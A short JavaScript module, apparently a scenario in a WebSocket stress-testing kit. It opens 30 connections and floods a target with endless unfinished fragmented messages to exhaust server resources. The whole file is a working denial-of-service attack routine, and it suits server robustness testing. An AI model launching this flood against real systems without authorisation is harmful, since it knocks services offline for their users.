// A message in fragments that never ends: of a byte, and of none.
import { crowd, frame, push, webSocket } from '../kit.mjs';

export const about = '30 connections send a message in fragments without end';

const pack = (payload) => Buffer.concat(Array.from({ length: 300 }, () => frame(payload, { opcode: 0, fin: false })));
const packs = [pack(''), pack('x')];

export const attack = (target) =>
  crowd(target, 30, async (life) => {
    const socket = await webSocket(life, { watch: true });
    await push(socket, frame('x', { opcode: 1, fin: false }));
    while (!life.clock.isOver() && !socket.destroyed) {
      await push(socket, packs[life.id % 2]);
    }
  });
